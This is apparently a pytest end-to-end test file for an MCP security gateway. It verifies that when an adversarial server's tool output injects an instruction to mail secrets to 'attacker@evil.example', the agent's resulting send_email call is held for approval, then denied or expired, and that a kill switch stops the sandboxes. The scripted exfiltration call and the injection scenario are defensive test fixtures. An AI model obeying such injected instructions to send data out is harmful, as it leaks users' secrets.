"""End to end: an injected instruction steers the agent to a sink; the veto holds it.

The MCP SDK client -> ``stockade gateway --stdio`` (default approver: the approval store, since the
policy has sensitive rules) -> two servers in gVisor: ``web`` (the adversarial server in ``inject``
mode: its read tool returns instructions to mail secrets to an attacker) and ``mail`` (a small
sink that appends every call it receives to a file in its one writable bind). The agent obeys the
injection and calls ``mail__send_email``; the call waits as a pending request; an operator denies
it with ``stockade approvals deny`` (one test) or nobody answers and it expires (another). The
agent gets an error result, the sink never receives the call, and ``stockade trace`` of the mail
server's run tells the story: the request, its category, why it was flagged, the taint provenance,
the decision and who decided through which channel. A third test engages ``stockade kill`` under
a running gateway: its servers stop (each run records why) and every new call is denied.
"""

from __future__ import annotations

import asyncio
import json
import shutil
from pathlib import Path
from typing import Any

import pytest

from _gwclient import gateway_client, recording_server, require_gvisor, stockade_cli, tool_names

pytestmark = [pytest.mark.gvisor, pytest.mark.slow]

EVIL = Path(__file__).parents[1] / "gateway" / "servers" / "evil_server.py"
ATTACKER = "attacker@evil.example"
HOST_TOKEN = "host-application-credential-0123456789"  # noqa: S105 - a test value
CONVERSATION = "conv-weather"
INSTRUCTION = "What is the weather today?"

# A sink server: it appends each message it receives to OUTBOX/received.jsonl (the file the test
# reads to prove the denied call never reached it) and writes one line when it starts.
MAIL_SERVER = recording_server(
    "mail",
    [
        {
            "name": "send_email",
            "description": "Send an e-mail.",
            "inputSchema": {
                "type": "object",
                "properties": {"to": {"type": "string"}, "body": {"type": "string"}},
                "required": ["to", "body"],
                "additionalProperties": False,
            },
        }
    ],
    record='{"event": "call", "params": msg.get("params")}',
    reply="f\"sent to {p.get('arguments', {}).get('to')}\"",
    on_start='{"event": "started"}',
)

POLICY = """\
version: 1
default: deny
approvals:
  timeout_s: {timeout}
servers:
  - name: web
    command: ["/usr/bin/python3", "srv/evil_server.py", "inject"]
    tofu: true
    tools:
      rules:
        - tool: echo
          action: allow
          tier: low
  - name: mail
    command: ["/usr/bin/python3", "srv/mail_server.py", "{outbox}"]
    tofu: true
    fs_allowlist:
      - path: outbox/
        mode: rw
    tools:
      rules:
        - tool: send_email
          action: allow
          tier: medium
          category: exfiltration
"""


def _setup(tmp_path: Path, timeout_s: int) -> tuple[Path, Path]:
    srv = tmp_path / "srv"
    srv.mkdir()
    shutil.copy(EVIL, srv / "evil_server.py")
    (srv / "mail_server.py").write_text(MAIL_SERVER)
    outbox = tmp_path / "outbox"
    outbox.mkdir()
    outbox.chmod(0o777)  # the sandboxed server runs as an unprivileged uid
    policy = tmp_path / "policy.yaml"
    policy.write_text(POLICY.format(timeout=timeout_s, outbox=outbox))
    return policy, outbox


def _pending(tmp_path: Path) -> list[dict[str, Any]]:
    out = stockade_cli(tmp_path, "approvals", "list", "--json")
    assert out.returncode == 0, out.stderr
    found: list[dict[str, Any]] = json.loads(out.stdout)
    return found


async def _wait_pending(tmp_path: Path) -> dict[str, Any]:
    for _ in range(200):  # bounded: about 20 s
        found = await asyncio.to_thread(_pending, tmp_path)
        if found:
            return found[0]
        await asyncio.sleep(0.1)
    raise AssertionError("no pending approval request appeared")


async def replay(tmp_path: Path, policy: Path, *, operator_denies: bool) -> dict[str, Any]:
    host_token = tmp_path / "host.token"
    host_token.write_text(HOST_TOKEN)
    meta: Any = {"stockade/conversation": CONVERSATION}
    seen: dict[str, Any] = {}
    async with gateway_client(
        tmp_path, policy, "--host-token-file", str(host_token), read_timeout_s=90, inherit_env=True
    ) as client:
        seen["tools"] = await tool_names(client)
        # The host application registers the user's own instruction: the context starts clean.
        reg = await client.call_tool(
            "stockade__register_context",
            {"conversation": CONVERSATION, "instruction": INSTRUCTION, "credential": HOST_TOKEN},
        )
        assert not reg.is_error, reg.content
        # The agent reads untrusted content; it carries an instruction to mail the attacker.
        seen["read"] = await client.call_tool("web__echo", {"message": "weather?"}, meta=meta)
        # The steered agent calls the sink with the attacker's address.
        sink = asyncio.create_task(
            client.call_tool(
                "mail__send_email", {"to": ATTACKER, "body": "all the secrets"}, meta=meta
            )
        )
        seen["pending"] = await _wait_pending(tmp_path)
        if operator_denies:
            rid = seen["pending"]["id"]
            deny = await asyncio.to_thread(
                stockade_cli,
                tmp_path,
                "approvals",
                "deny",
                rid,
                "--by",
                "alice",
                "--reason",
                "injected instruction",
            )
            assert deny.returncode == 0, deny.stderr
        seen["sink"] = await asyncio.wait_for(sink, 60)
        seen["trace"] = await client.call_tool("stockade__get_run_trace", {})
    return seen


def _check_story(tmp_path: Path, seen: dict[str, Any], outbox: Path, final: str) -> list[Any]:
    assert {"web__echo", "mail__send_email"} <= set(seen["tools"])
    assert "attacker@evil.example" in seen["read"].content[0].text

    pending = seen["pending"]
    assert pending["state"] == "pending"
    assert pending["category"] == "exfiltration"
    assert pending["call"]["arguments"]["to"] == ATTACKER
    assert any("tainted by web__echo" in p for p in pending["provenance"])
    assert pending["run_id"]

    assert seen["sink"].is_error
    assert "denied" in seen["sink"].content[0].text

    # Nothing sent: the sink started (its writable bind works) but received no call.
    received = [json.loads(x) for x in (outbox / "received.jsonl").read_text().splitlines()]
    assert {"event": "started"} in received
    assert not [r for r in received if r["event"] == "call"]

    mail_trace = seen["trace"].structured_content["servers"]["mail"]
    run_id = mail_trace["run"]["run_id"]
    assert run_id == pending["run_id"]
    assert mail_trace["run"]["backend"] == "gvisor"
    states = [a["data"]["state"] for a in mail_trace["approvals"]]
    assert states == ["pending", final]

    # The same story from the command line, after the gateway is gone.
    out = stockade_cli(tmp_path, "trace", run_id, "--json")
    assert out.returncode == 0, out.stderr
    trace = json.loads(out.stdout)
    story = [a["data"] for a in trace["approvals"]]
    assert [a["state"] for a in story] == ["pending", final]
    for a in story:
        assert a["id"] == pending["id"]
        assert a["digest"] == pending["digest"]
        assert a["category"] == "exfiltration"
        assert "do not come from the user's trusted instruction" in a["flagged"]
        assert any("tainted by web__echo" in p for p in a["provenance"])
        assert "flow: to not from trusted context" in a["provenance"]
    decisions = [d["data"] for d in trace["decisions"]]
    assert decisions[-1]["outcome"] == "denied:approval"
    human = stockade_cli(tmp_path, "trace", run_id)
    assert human.returncode == 0, human.stderr
    assert "approvals (2)" in human.stdout
    return story


@pytest.mark.guarantee("veto-e2e-injected-sink-denied")
def test_an_injected_sink_call_waits_and_an_operator_denial_stops_it_with_the_story_traced(
    tmp_path: Path,
) -> None:
    require_gvisor()
    policy, outbox = _setup(tmp_path, timeout_s=60)
    seen = asyncio.run(asyncio.wait_for(replay(tmp_path, policy, operator_denies=True), 180))
    story = _check_story(tmp_path, seen, outbox, "denied")
    assert story[-1]["decided_by"] == "alice"
    assert story[-1]["channel"] == "cli"
    assert story[-1]["note"] == "injected instruction"
    assert "alice" in seen["sink"].content[0].text


@pytest.mark.guarantee("veto-e2e-injected-sink-expires")
def test_an_injected_sink_call_nobody_answers_expires_denied_with_the_story_traced(
    tmp_path: Path,
) -> None:
    require_gvisor()
    policy, outbox = _setup(tmp_path, timeout_s=4)
    seen = asyncio.run(asyncio.wait_for(replay(tmp_path, policy, operator_denies=False), 180))
    story = _check_story(tmp_path, seen, outbox, "expired")
    assert story[-1]["decided_by"] == "stockade"
    assert story[-1]["channel"] == "system"


async def killed(tmp_path: Path, policy: Path) -> dict[str, Any]:
    seen: dict[str, Any] = {}
    async with gateway_client(tmp_path, policy, read_timeout_s=90, inherit_env=True) as client:
        seen["read"] = await client.call_tool("web__echo", {"message": "weather?"})
        before = await client.call_tool("stockade__get_run_trace", {})
        run_id = before.structured_content["servers"]["web"]["run"]["run_id"]
        kill = await asyncio.to_thread(
            stockade_cli, tmp_path, "kill", "--by", "ops", "--reason", "incident 42"
        )
        assert kill.returncode == 0, kill.stderr
        for _ in range(300):  # bounded: the gateway polls the switch and stops its servers
            out = await asyncio.to_thread(stockade_cli, tmp_path, "trace", run_id, "--json")
            trace = json.loads(out.stdout)
            if trace["run"]["status"] != "running" and any(
                e["kind"] == "kill_switch" for e in trace["events"]
            ):
                break
            await asyncio.sleep(0.1)
        seen["trace"] = trace
        seen["after"] = await client.call_tool("web__echo", {"message": "again"})
    return seen


@pytest.mark.guarantee("apr-kill-stops-gateway")
def test_the_kill_switch_stops_the_gateways_sandboxes_and_denies_every_new_call(
    tmp_path: Path,
) -> None:
    require_gvisor()
    policy, _ = _setup(tmp_path, timeout_s=60)
    seen = asyncio.run(asyncio.wait_for(killed(tmp_path, policy), 180))
    assert not seen["read"].is_error
    trace = seen["trace"]
    assert trace["run"]["status"] != "running"
    (event,) = [e["data"] for e in trace["events"] if e["kind"] == "kill_switch"]
    assert event == {"by": "ops", "reason": "incident 42", "action": "server stopped"}
    assert seen["after"].is_error
    assert "kill switch" in seen["after"].content[0].text
